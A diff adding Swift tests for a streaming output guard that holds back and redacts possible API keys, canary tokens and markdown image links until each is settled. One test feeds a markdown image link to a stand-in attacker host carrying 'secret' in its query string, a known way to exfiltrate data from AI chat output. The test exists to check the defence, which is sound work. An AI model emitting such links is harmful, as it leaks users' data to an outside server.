@@ -73,3 +73,66 @@ import Testing
         #expect(out == text.joined())
     }
 }
+
+/// What leaves when: text in which no match can be under way leaves as it arrives (the
+/// first word of an answer is not held back 256 characters), and only a possible start of
+/// one is held until it is settled.
+@Suite struct StreamGuardLatencyTests {
+    func released(_ chunks: [String], _ pipeline: GuardPipeline = GuardPipeline()) -> [String] {
+        var guarding = StreamGuard(pipeline)
+        return chunks.map { chunk in
+            switch guarding.feed(chunk) {
+            case .text(let t): t
+            case .blocked(let reason): "<blocked: \(reason)>"
+            }
+        }
+    }
+
+    @Test func plainWordsLeaveAsTheyArrive() {
+        let words = ["The", " capital", " of", " France", " is", " Paris", ".", " It", " has", " 2.1", " million", " people", "."]
+        #expect(released(words) == words)
+    }
+
+    @Test func aPossibleKeyIsHeldUntilSettled() {
+        #expect(released(["Use AK", "ron", " today"]) == ["Use ", "AKron", " today"])
+        #expect(released(["Use AK", "IAIOSFODNN7EX", "AMPLE now", "."]) == ["Use ", "", "[REDACTED AWS access key] now", "."])
+        #expect(released(["token sk-", "proj-", "abc", " is short"]) == ["token ", "", "", "sk-proj-abc is short"])
+    }
+
+    @Test func aCanaryPrefixIsHeldAndTheCanaryBlocks() {
+        let pipeline = GuardPipeline(canaries: ["ANIMA-CANARY-00112233aabbccdd"])
+        let out = released(["ref ANIMA-", "CANARY-0011", "2233aabbccdd"], pipeline)
+        #expect(out[0] == "ref " && out[1] == "" && out[2].hasPrefix("<blocked"), "\(out)")
+        #expect(released(["ref ANIMA-", "CAT"], pipeline) == ["ref ", "ANIMA-CAT"])
+    }
+
+    /// A plain reference or the guard's own marker (`[REDACTED …]`) holds nothing back; an image
+    /// reference and a link definition are held as long as the window (they are judged together).
+    @Test func imageReferencesAndDefinitionsAreHeldPlainReferencesAreNot() {
+        #expect(released(["See [1] and", " more."]) == ["See [1] and", " more."])
+        let image = released(["See ![r] and", " more."])  // an image if a definition of r follows
+        #expect(image == ["See ", ""], "\(image)")
+        #expect(released(["See ![x][r] and"]) == ["See [REDACTED markdown image reference to a remote URL] and"])
+    }
+
+    @Test func anImageLinkIsHeldUntilItIsWhole() {
+        let out = released(["See ![chart](", "https://evil.example/p.png?d=", "secret) ok", "."])
+        #expect(out[0] == "See " && out[1] == "", "\(out)")
+        #expect(!out.joined().contains("evil"), "\(out)")
+    }
+
+    /// What the policy lets through is not waited for: with secrets allowed on the way out,
+    /// a key's first letters leave at once.
+    @Test func onlyWhatThePolicyActsOnIsWaitedFor() {
+        var policy = GuardPolicy.standard
+        policy.output[.secret] = .allow
+        #expect(released(["Use AK", "IA"], GuardPipeline(policy: policy)) == ["Use AK", "IA"])
+    }
+
+    /// A zero-width space inside a key's start does not hide it from the wait.
+    @Test func anInvisibleCharacterDoesNotHideAStart() {
+        let out = released(["key AK\u{200B}I", "AIOSFODNN7EXAMPLE", " done."])
+        #expect(out[0] == "key ", "\(out)")
+        #expect(!out.joined().contains("IOSF"), "\(out)")
+    }
+}
